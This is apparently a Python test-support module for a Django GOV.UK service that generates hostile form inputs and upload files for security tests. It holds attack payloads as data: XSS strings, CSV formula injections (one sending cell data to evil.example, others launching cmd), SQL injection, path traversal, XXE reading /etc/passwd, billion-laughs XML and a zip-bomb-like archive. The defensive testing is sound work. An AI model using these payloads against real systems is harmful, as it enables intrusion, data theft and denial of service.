"""Hostile input for the security tests: Hypothesis strategies, the checks every answer must pass, and
a corpus of hostile files built in code.

A page given hostile input must never fail with a 500 or show a stack trace; when it refuses the
input it shows the GOV.UK error summary and the database is exactly as it was; when it accepts the
input it stores it as typed and shows it escaped.
"""

from __future__ import annotations

import codecs
import csv
import io
import zipfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from functools import cache
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# --- Hypothesis -------------------------------------------------------------------------------


def hostile_settings(examples: int) -> settings:
    """The same examples on every run (CI is reproducible), no deadline: a request takes what it takes."""
    return settings(
        max_examples=examples,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# Markup that would run if a page printed it unescaped; each is looked for, raw, in every answer.
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</textarea><svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '\'><a href="javascript:alert(1)">x</a>',
)
# OWASP's formula triggers, and payloads that use them.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
NASTY = (
    "",
    " ",
    "   \t  ",
    "\x00",
    "a\x00b",
    "null\x00byte@example.gov.uk",
    "\x1b[31mred\x1b[0m",
    "\x7f\x08\x0b\x0c",
    "line one\r\nline two\rline three\nline four",
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u202b\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627\u202c",
    "zero\u200bwidth\u200c\u200d\u2060joiner\ufeff",
    "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",  # stacked combining marks
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a",
    "\U0001f600\U0001f4a9\U0001f1ec\U0001f1e7",  # astral: emoji and a flag
    "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594",  # mathematical letters
    "\U000e0041\U000e0042",  # tag characters
    "\ue000\U000f0000",  # private use
    "\ufffd\ufffe\uffff",
    "\uff21\uff44\uff4d\uff49\uff4e",  # full width
    "{{ 7|add:7 }}{% now 'Y' %}",
    "${7*7}#{7*7}%(x)s%s%n",
    "' OR '1'='1'; DROP TABLE accounts_user; --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "javascript:alert(1)",
    "https://evil.example/",
    "//evil.example",
    "name@example.gov.uk",
    "NAME@EXAMPLE.GOV.UK",
    "a@b",
    "@",
    "<>",
    "&amp;&lt;&#0;&#x0;",
    *MARKUP,
    *FORMULAS,
)
NUMBERS = (
    "0",
    "-1",
    "-0",
    "1,000",
    "1 000",
    "1.5",
    "1e3",
    "1e309",
    "NaN",
    "Infinity",
    "0x10",
    "0o7",
    "\u0663",  # Arabic-Indic digit
    "\uff11\uff12",  # full-width digits
    "²",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "-9223372036854775809",
    "9" * 30,
    "9" * 400,
    "1" + "0" * 4300,  # past Python's int-from-string limit
)
DATES = (
    ("31", "2", "2026"),
    ("0", "0", "0"),
    ("29", "2", "2100"),
    ("1", "1", "1"),
    ("1", "1", "99999999999"),
    ("-1", "-1", "-2026"),
    ("32", "13", "2026"),
    ("1", "1", "1899"),
    ("1", "1", "2201"),
    ("", "3", "2026"),
    ("x", "y", "z"),
    ("9" * 50, "9" * 50, "9" * 50),
)

_any_character = st.characters(codec="utf-8")
_control = st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp", "Mn"])


def _long(character: str, size: int) -> str:
    return character * size


long_text = st.builds(
    _long,
    st.sampled_from(["A", "é", "\U0001f600", "\u200b", "<", "=", "\x00", " ", "9"]),
    st.sampled_from([255, 256, 1001, 2001, 5001, 20_001, 100_001]),
)
formula_text = st.builds(lambda prefix, rest: prefix + rest, st.sampled_from(list("=+-@\t\r")), st.text(max_size=20))


@cache
def hostile_text(*, max_size: int = 60) -> st.SearchStrategy[str]:
    """Short and very long strings, control and invisible characters, markup, formulas and number look-alikes."""
    return _hostile_text(max_size)


# Strategies are built once and kept: building one costs far more than drawing from it. The builders
# make new objects each time because one_of merges branches it already holds, which would change
# how often each kind of value is drawn.
def _hostile_text(max_size: int) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NASTY),
        st.sampled_from(NUMBERS),
        st.text(_any_character, max_size=max_size),
        st.text(_control, min_size=1, max_size=8),
        formula_text,
        long_text,
        st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(_any_character, max_size=10)),
    )


def _hostile_value(max_size: int) -> st.SearchStrategy[Any]:
    return st.one_of(
        _hostile_text(max_size),
        st.lists(_hostile_text(20), min_size=2, max_size=3),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.just(SimpleUploadedFile("field.txt", b"a file where text belongs")).map(_fresh_file),
    )


@cache
def hostile_value(*, max_size: int = 60) -> st.SearchStrategy[Any]:
    """What a form field may receive: a hostile string, a repeated field, a number, or a file where text belongs."""
    return _hostile_value(max_size)


@cache
def _hostile_value_again() -> st.SearchStrategy[Any]:
    # A second object for form_data, whose fields get a hostile value half of the time.
    return _hostile_value(60)


def _fresh_file(upload: SimpleUploadedFile) -> SimpleUploadedFile:
    # The test client reads an upload to its end; each example needs its own.
    return SimpleUploadedFile(upload.name, b"a file where text belongs", content_type="text/plain")


_MISSING = object()


def form_data(fields: Mapping[str, st.SearchStrategy[Any]]) -> st.SearchStrategy[dict[str, Any]]:
    """A POST body for a form: each field a valid answer, a hostile one, or missing.

    Mixing valid answers in lets the hostile value in one field reach the code behind the form.
    """
    per_field = {
        name: st.one_of(valid, hostile_value(), _hostile_value_again(), st.just(_MISSING))
        for name, valid in fields.items()
    }
    return st.fixed_dictionaries(per_field).map(
        lambda data: {name: value for name, value in data.items() if value is not _MISSING}
    )


def date_parts(prefix: str, valid: tuple[str, str, str]) -> dict[str, st.SearchStrategy[Any]]:
    """The day, month and year inputs of a GOV.UK date field, for :func:`form_data`: real or impossible dates."""
    return {
        f"{prefix}_{index}": st.one_of(st.just(valid[index]), st.sampled_from([date[index] for date in DATES]))
        for index in range(3)
    }


def strings_in(data: Any) -> Iterator[str]:
    if isinstance(data, str):
        yield data
    elif isinstance(data, Mapping):
        for value in data.values():
            yield from strings_in(value)
    elif isinstance(data, list | tuple):
        for value in data:
            yield from strings_in(value)


# --- what every answer must be ----------------------------------------------------------------


def body_of(response: Any) -> str:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode("utf-8", "replace")
    return response.content.decode("utf-8", "replace")


def assert_no_crash(response: Any, sent: Any = ()) -> str:
    """No server error, no stack trace, and none of the markup that was sent printed raw."""
    assert response.status_code < 500, response.status_code
    body = body_of(response)
    assert "Traceback" not in body
    assert "Exception Value" not in body
    for text in strings_in(sent):
        for markup in MARKUP:
            if markup in text:
                assert markup not in body, f"{markup!r} was printed unescaped"
    return body


def assert_refused(response: Any, body: str) -> None:
    """A form that refuses its input shows it again with the GOV.UK error summary."""
    assert response.status_code in (200, 400), response.status_code
    assert "govuk-error-summary" in body, "the page refused the input without an error summary"


# --- the whole database, before and after -----------------------------------------------------

# Rows that change on every request whatever the form does.
_UNWATCHED = {"django_session"}


@dataclass(frozen=True)
class Snapshot:
    writes: dict[str, int]

    def changed(self, other: Snapshot) -> set[str]:
        tables = set(self.writes) | set(other.writes)
        return {table for table in tables if other.writes.get(table, 0) != self.writes.get(table, 0)} - _UNWATCHED


def snapshot() -> Snapshot:
    """Rows inserted, updated or deleted in each table so far in this transaction, as PostgreSQL counts
    them: any write by the request moves a counter, even one that stores the values already there, and
    it costs one small query however much data the tables hold."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT relname, n_tup_ins + n_tup_upd + n_tup_del FROM pg_stat_xact_user_tables")
        return Snapshot(dict(cursor.fetchall()))


@contextmanager
def undone() -> Iterator[None]:
    """Run one example and roll back whatever it saved, so every example starts from the same state."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def assert_nothing_saved(before: Snapshot, *, allowed: set[str] = frozenset()) -> None:
    changed = snapshot().changed(before) - set(allowed)
    assert not changed, f"a refused form changed {sorted(changed)}"


# --- CSV --------------------------------------------------------------------------------------


def csv_cells(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def assert_formulas_neutralised(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run as a formula."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula-like cell {cell!r}"


# --- hostile files ----------------------------------------------------------------------------


@dataclass(frozen=True)
class HostileFile:
    label: str
    name: str
    content: bytes
    content_type: str = "application/octet-stream"

    def upload(self, *, name: str | None = None) -> SimpleUploadedFile:
        return SimpleUploadedFile(name or self.name, self.content, content_type=self.content_type)


def _zip_bomb_like() -> bytes:
    # 20MB of zeros compresses to about 20KB: small on the wire, large if anything unpacked it.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.csv", b"\0" * (20 * 1024 * 1024))
    return buffer.getvalue()


def _polyglot(first: bytes) -> bytes:
    # A file that starts as one thing and is an archive at its end (zip readers look at the end).
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return first + buffer.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'.encode() for n in range(1, 10)
    )
    + b"]>\n<Configuration><ProviderConfiguration>&lol9;</ProviderConfiguration></Configuration>\n"
)
XXE = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Configuration [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b"<Configuration><ProviderConfiguration><ProviderName>&xxe;</ProviderName></ProviderConfiguration>"
    b"</Configuration>\n"
)
XXE_PARAMETER = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Configuration [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">'
    b"%remote;]>\n<Configuration />\n"
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?>\n<!DOCTYPE Configuration SYSTEM "http://127.0.0.1:9/config.dtd">\n<Configuration />\n'
)
DEEP_XML = b'<?xml version="1.0"?>\n' + b"<a>" * 100_000 + b"</a>" * 100_000


def common_files(*, extension: str, limit: int) -> list[HostileFile]:
    """Files every upload must refuse, or accept safely: ``extension`` is the one the upload asks for."""
    return [
        HostileFile("empty", f"empty.{extension}", b""),
        HostileFile("one byte over the limit", f"big.{extension}", b"a" * (limit + 1)),
        HostileFile("binary garbage", f"garbage.{extension}", bytes(range(256)) * 64),
        HostileFile("NUL bytes", f"nul.{extension}", b"a\x00b\x00" * 100),
        HostileFile("invalid UTF-8", f"bad.{extension}", b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc" * 10),
        HostileFile("lone UTF-16 surrogate as UTF-8", f"surrogate.{extension}", b"\xed\xa0\x80abc"),
        HostileFile(
            "UTF-16 with BOM", f"utf16.{extension}", codecs.BOM_UTF16_LE + "a,b\r\nc,d\r\n".encode("utf-16-le")
        ),
        HostileFile("UTF-32 with BOM", f"utf32.{extension}", codecs.BOM_UTF32_LE + "a,b\n".encode("utf-32-le")),
        HostileFile("zip bomb-like", f"bomb.{extension}", _zip_bomb_like(), "application/zip"),
        HostileFile("PNG and zip polyglot", f"polyglot.{extension}", _polyglot(b"\x89PNG\r\n\x1a\n" + b"\0" * 32)),
        HostileFile("PDF and zip polyglot", f"polyglot-pdf.{extension}", _polyglot(b"%PDF-1.4\n")),
        HostileFile("an HTML page", f"page.{extension}", b"<!doctype html><script>alert(1)</script>", "text/html"),
        HostileFile("an executable", f"program.{extension}", b"MZ\x90\x00" + b"\0" * 60 + b"PE\0\0", "text/csv"),
        HostileFile("wrong extension", "payload.exe", b"email address\nname@example.gov.uk\n"),
        HostileFile("no extension", "payload", b"email address\nname@example.gov.uk\n"),
        HostileFile("double extension", f"payload.{extension}.exe", b"email address\nname@example.gov.uk\n"),
    ]


def csv_files(*, limit: int, header: str) -> list[HostileFile]:
    """CSV files with hostile content; ``header`` is a valid first line for the upload."""
    wide = ",".join(f"c{n}" for n in range(5000)).encode()
    return [
        HostileFile("only a BOM", "bom.csv", codecs.BOM_UTF8),
        HostileFile("only a header", "header.csv", header.encode() + b"\n"),
        HostileFile(
            "formula injection",
            "formulas.csv",
            (header + "\n" + "\n".join(",".join([formula] * header.count(",")) for formula in FORMULAS)).encode(),
        ),
        HostileFile("thousands of columns", "wide.csv", wide + b"\n" + wide + b"\n"),
        HostileFile("one very long line", "long.csv", b"a" * (limit - 10) + b"\n"),
        HostileFile("unclosed quote", "quote.csv", header.encode() + b'\n"never closed,\n' * 50),
        HostileFile("NUL inside a cell", "nulcell.csv", header.encode() + b"\nname\x00@example.gov.uk\n"),
        HostileFile("a million empty rows", "rows.csv", header.encode() + b"\n" + b"\n" * min(limit - 200, 1_000_000)),
        HostileFile("mixed line endings", "endings.csv", header.encode() + b"\r\na\rb\n\r\n"),
        HostileFile(
            "markup in cells",
            "markup.csv",
            (
                header + "\n" + "\n".join(",".join([markup.replace(",", " ")] * header.count(",")) for markup in MARKUP)
            ).encode(),
        ),
        HostileFile("Latin-1", "latin1.csv", (header + "\ncaf\xe9@example.gov.uk\n").encode("latin-1")),
    ]


def xml_files(*, limit: int) -> list[HostileFile]:
    return [
        HostileFile("billion laughs", "laughs.xml", BILLION_LAUGHS, "text/xml"),
        HostileFile("external entity (XXE)", "xxe.xml", XXE, "text/xml"),
        HostileFile("external parameter entity", "xxe-parameter.xml", XXE_PARAMETER, "text/xml"),
        HostileFile("external DTD", "dtd.xml", EXTERNAL_DTD, "text/xml"),
        HostileFile("deeply nested", "deep.xml", DEEP_XML, "text/xml"),
        HostileFile("not well formed", "broken.xml", b"<Configuration><Unclosed></Configuration>", "text/xml"),
        HostileFile("not XML", "notxml.xml", b"email address\nname@example.gov.uk\n", "text/xml"),
        HostileFile(
            "a processing instruction",
            "pi.xml",
            b'<?xml-stylesheet href="http://evil.example/x.xsl"?>\n<Configuration />',
            "text/xml",
        ),
        HostileFile(
            "UTF-16 XML with BOM",
            "utf16.xml",
            codecs.BOM_UTF16_LE + '<?xml version="1.0" encoding="utf-16"?><Configuration />'.encode("utf-16-le"),
            "text/xml",
        ),
        HostileFile(
            "declared encoding it is not", "liar.xml", b'<?xml version="1.0" encoding="utf-32"?><Configuration/>'
        ),
        HostileFile(
            "CDATA with markup", "cdata.xml", b"<Configuration><![CDATA[<script>alert(1)</script>]]></Configuration>"
        ),
        HostileFile(
            "huge attribute", "attribute.xml", b'<Configuration a="' + b"x" * (limit // 4) + b'"/>', "text/xml"
        ),
    ]


# File names an upload may carry: each must be stored as a plain name or refused, never used as a path.
HOSTILE_NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config.csv",
    "/etc/passwd",
    "C:\\boot.ini",
    "....//....//escape.csv",
    "%2e%2e%2fescape.csv",
    "name\x00.csv",
    "evidence\u202ecsv.exe",
    "\U0001f600 emoji \u0645\u0631\u062d\u0628\u0627.csv",
    "e\u0301\u0301\u0301.csv",
    '"quoted"; filename="other.csv',
    "new\r\nline.csv",
    "<script>alert(1)</script>.csv",
    "=HYPERLINK(1).csv",
    "a" * 300 + ".csv",
    "\u00e9" * 200 + ".csv",
    " .csv",
    ".csv",
    "CON.csv",
)
